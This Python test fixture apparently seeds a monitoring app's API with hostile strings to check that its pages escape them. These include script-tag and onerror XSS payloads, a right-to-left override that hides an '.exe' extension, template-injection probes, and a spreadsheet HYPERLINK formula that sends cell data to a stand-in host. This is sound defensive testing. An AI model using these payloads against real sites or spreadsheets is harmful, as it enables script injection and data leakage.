"""What a project looks like when somebody writes into it all that pages could stumble over."""

import httpx

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>'\"></title>"
RIGHT_TO_LEFT = "\u202egpj.exe\u202c שלום \u200fnightly\u200f"
EMOJI = "🚀" * 100
FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1,"open") @SUM(1+1)'
LONG = "W" * 100
BRACES = "{{ 7*7 }} ${7*7} %(name)s &lt;b&gt; \\u003cb\\u003e"

NAMES = (SCRIPT, RIGHT_TO_LEFT, EMOJI, FORMULA, LONG, BRACES)
TAGS = ('"><script>alert(3)</script>', "\u202egat\u202c" + "🦖" * 20, "=" + "L" * 90)
TEXT = "\n".join((*NAMES, "</textarea><script>alert(5)</script>", "]]>-->"))
# Of the browsers that ping; headers hold no more than Latin-1.
USER_AGENT = "<script>alert(6)</script>\"'><img src=x onerror=alert(7)>" + "M" * 100


def furnish(api: httpx.Client) -> list[dict[str, str]]:
    """Make checks, pings and channels with all of that; return the checks as the API shows them."""
    channels = [_add_channel(api, name) for name in NAMES]
    checks = [_add_check(api, name, channels[number]) for number, name in enumerate(NAMES)]
    first = checks[0]["ping_url"]
    for path, body in (("/start", ""), ("/log", TEXT), ("/fail", TEXT)):
        answer = api.post(first + path, content=body.encode(), headers={"User-Agent": USER_AGENT})
        assert answer.status_code == 200
    return checks


def _add_channel(api: httpx.Client, name: str) -> str:
    # Nothing listens there: what went wrong is shown, too.
    settings = {"url_down": "http://127.0.0.1:9/$NAME", "url_up": "http://127.0.0.1:9/$NAME"}
    channel = {"kind": "webhook", "name": name, "settings": settings}
    answer = api.post("/api/v3/channels/", json=channel)
    assert answer.status_code == 201, answer.text
    return str(answer.json()["id"])


def _add_check(api: httpx.Client, name: str, channel: str) -> dict[str, str]:
    check = {
        "name": name,
        "tags": " ".join(TAGS),
        "desc": TEXT,
        "channels": channel,
        "schedule": "15 3 * * 1-5",
        "tz": "America/Argentina/ComodRivadavia",
    }
    answer = api.post("/api/v3/checks/", json=check)
    assert answer.status_code == 201, answer.text
    return dict(answer.json())
